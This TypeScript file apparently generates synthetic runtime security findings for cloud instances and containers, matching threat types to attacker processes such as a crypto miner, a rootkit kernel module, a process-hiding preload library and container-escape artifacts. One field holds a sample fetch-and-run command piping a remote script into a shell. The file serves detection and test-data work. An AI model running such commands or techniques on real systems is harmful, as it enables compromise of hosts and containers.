/** Runtime findings: the runtime agent's process detections on instances and containers. */

import { APPS } from "./inventory.js";
import { kubernetesWorkloadDetails } from "./kubernetes.js";
import { hostNetworkAction } from "./network.js";
import { container, ecsClusterDetails, eksClusterDetails, instanceDetails } from "./resources.js";
import { newParts, type Parts, type Scene } from "./scene.js";
import { DNS_PATTERN, RUNTIME_NETWORK_PATTERN, threatFamilyName } from "./type-name.js";
import { epochSeconds, hexId, type Json, privateIp, uuid } from "./values.js";

interface ProcessSpec {
  name: string;
  path: string;
  context?: (scene: Scene) => Json;
}

const PROCESSES: Record<string, ProcessSpec> = {
  CryptoMinerExecuted: { name: "xmrig", path: "/tmp/.cache/xmrig" },
  ReverseShell: { name: "bash", path: "/usr/bin/bash" },
  SuspiciousShellCreated: { name: "sh", path: "/bin/sh" },
  SuspiciousTool: {
    name: "nmap",
    path: "/usr/bin/nmap",
    context: () => ({ toolName: "nmap", toolCategory: "Network scanner" }),
  },
  SuspiciousCommand: {
    name: "curl",
    path: "/usr/bin/curl",
    context: () => ({ commandLineExample: "curl -s http://198.51.100.7/x.sh | sh" }),
  },
  KernelModuleLoaded: {
    name: "insmod",
    path: "/usr/sbin/insmod",
    context: ({ rng }) => ({
      moduleName: "diamorphine",
      moduleFilePath: "/tmp/diamorphine.ko",
      moduleSha256: hexId(rng, 64),
    }),
  },
  DockerSocketAccessed: {
    name: "docker",
    path: "/usr/bin/docker",
    context: () => ({ socketPath: "/var/run/docker.sock" }),
  },
  RuncContainerEscape: {
    name: "runc",
    path: "/usr/bin/runc",
    context: () => ({ runcBinaryPath: "/usr/bin/runc" }),
  },
  CGroupsReleaseAgentModified: {
    name: "sh",
    path: "/bin/sh",
    context: () => ({ releaseAgentPath: "/sys/fs/cgroup/rdma/release_agent" }),
  },
  ContainerMountsHostDirectory: {
    name: "mount",
    path: "/usr/bin/mount",
    context: () => ({
      mountSource: "/dev/nvme0n1p1",
      mountTarget: "/mnt/host",
      fileSystemType: "xfs",
      flags: ["MS_BIND"],
    }),
  },
  NewLibraryLoaded: {
    name: "python3",
    path: "/usr/bin/python3",
    context: () => ({
      libraryPath: "/tmp/.lib/libprocesshider.so",
      ldPreloadValue: "/tmp/.lib/libprocesshider.so",
    }),
  },
  FilelessExecution: {
    name: "memfd:payload",
    path: "/memfd:payload (deleted)",
    context: () => ({ memoryRegions: ["7f3a1c000000-7f3a1c021000 rwxp"] }),
  },
  MaliciousFileExecuted: {
    name: "kinsing",
    path: "/tmp/kinsing",
    context: () => ({ threatFilePath: "/tmp/kinsing" }),
  },
  ElevationToRoot: { name: "sudo", path: "/usr/bin/sudo" },
  UserfaultfdUsage: { name: "exploit", path: "/tmp/exploit" },
  PtraceAntiDebugging: { name: "agent", path: "/opt/agent/agent" },
  ProcessInjection: { name: "gdb", path: "/usr/bin/gdb" },
  NewBinaryExecuted: { name: "updater", path: "/tmp/.x/updater" },
};

function runtimeDetails(scene: Scene): Json {
  const { rng, info, createdMs } = scene;
  const spec = PROCESSES[threatFamilyName(info.type)] ?? {
    name: "python3",
    path: "/usr/bin/python3",
  };
  const root = rng.chance(0.6);
  const process: Json = {
    name: spec.name,
    executablePath: spec.path,
    executableSha256: hexId(rng, 64),
    namespacePid: rng.int(1, 400),
    pwd: rng.pick(["/", "/tmp", "/root", "/app"]),
    pid: rng.int(1000, 65000),
    startTime: epochSeconds(createdMs - rng.int(1, 600) * 1000),
    uuid: uuid(rng),
    parentUuid: uuid(rng),
    user: root ? "root" : "app",
    userId: root ? 0 : 1000,
    euid: root ? 0 : 1000,
  };
  const details: Json = { process };
  if (spec.context)
    details.context = { ...spec.context(scene), modifiedAt: epochSeconds(createdMs) };
  return details;
}

function runtimeHostParts(scene: Scene): { parts: Parts; localIp: string } {
  const { rng, inventory, ctx, createdMs } = scene;
  const roll = rng.next();
  if (roll < 0.5) {
    const spec = rng.pick(inventory.instances);
    const parts = newParts(
      {
        resourceType: "Instance",
        instanceDetails: instanceDetails(spec, ctx.region, ctx.accountId),
      },
      `EC2 instance ${spec.instanceId}`,
    );
    return { parts, localIp: spec.privateIp };
  }
  const workloadContainer = container(rng, { privileged: rng.chance(0.1) });
  if (roll < 0.8) {
    const cluster = rng.pick(inventory.eksClusters);
    const name = `${rng.pick(APPS)}-${hexId(rng, 5)}`;
    const parts = newParts(
      {
        resourceType: "EKSCluster",
        eksClusterDetails: eksClusterDetails(cluster),
        kubernetesDetails: {
          kubernetesWorkloadDetails: kubernetesWorkloadDetails(
            scene,
            rng.pick(["default", "payments", "kube-system"]),
            name,
          ),
        },
        containerDetails: workloadContainer,
      },
      `EKS cluster ${cluster.name}`,
    );
    return { parts, localIp: privateIp(rng) };
  }
  const cluster = rng.pick(inventory.ecsClusters);
  const parts = newParts(
    {
      resourceType: "ECSCluster",
      ecsClusterDetails: ecsClusterDetails(
        rng,
        cluster,
        createdMs,
        container(rng, { privileged: false }),
      ),
      containerDetails: workloadContainer,
    },
    `ECS cluster ${cluster.name}`,
  );
  return { parts, localIp: privateIp(rng) };
}

export function runtimeParts(scene: Scene): Parts {
  const { info } = scene;
  const { parts, localIp } = runtimeHostParts(scene);
  parts.service.runtimeDetails = runtimeDetails(scene);
  if (DNS_PATTERN.test(info.type) || RUNTIME_NETWORK_PATTERN.test(info.type)) {
    Object.assign(parts, hostNetworkAction(scene, localIp));
  } else {
    // Process detections have no network action; the process is the actor.
    parts.resourceRole = "ACTOR";
  }
  return parts;
}
